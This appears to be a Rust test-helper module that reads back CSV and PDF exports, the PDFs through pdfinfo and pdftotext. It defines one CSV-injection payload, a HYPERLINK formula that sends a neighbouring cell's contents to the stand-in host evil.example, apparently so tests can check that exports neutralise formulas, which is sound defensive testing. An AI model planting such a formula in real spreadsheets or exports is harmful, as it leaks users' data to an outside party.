//! Reading back what the export tests write: a CSV's records after its BOM, a PDF's page count
//! and text through poppler (pdfinfo, pdftotext), and the formula a user might type into a cell.

use std::process::Command;

use jasaq::reports;

/// A formula that would leak a neighbouring cell if a spreadsheet evaluated it.
pub const INJECTION: &str = "=HYPERLINK(\"http://evil.example/?leak=\"&A2,\"click\")";

/// The records of a `;`-delimited CSV export, header first; it must start with the BOM.
pub fn csv_records(bytes: &[u8]) -> Vec<Vec<String>> {
    let body = bytes
        .strip_prefix(reports::csv::BOM)
        .expect("CSV starts with the UTF-8 BOM");
    csv::ReaderBuilder::new()
        .delimiter(b';')
        .has_headers(false)
        .from_reader(body)
        .records()
        .map(|r| r.unwrap().iter().map(str::to_owned).collect())
        .collect()
}

/// A PDF's page count (pdfinfo) and its text laid out as on the page (pdftotext -layout).
pub fn pdf_pages_and_text(bytes: &[u8]) -> (usize, String) {
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("list.pdf");
    std::fs::write(&path, bytes).unwrap();
    let info = Command::new("pdfinfo")
        .arg(&path)
        .output()
        .expect("pdfinfo (poppler-utils) runs");
    assert!(info.status.success(), "pdfinfo accepts the PDF");
    let info = String::from_utf8_lossy(&info.stdout).to_string();
    let pages = info
        .lines()
        .find_map(|l| l.strip_prefix("Pages:"))
        .and_then(|n| n.trim().parse().ok())
        .expect("pdfinfo reports a page count");
    let text = Command::new("pdftotext")
        .arg("-layout")
        .arg(&path)
        .arg("-")
        .output()
        .expect("pdftotext runs");
    (pages, String::from_utf8_lossy(&text.stdout).to_string())
}
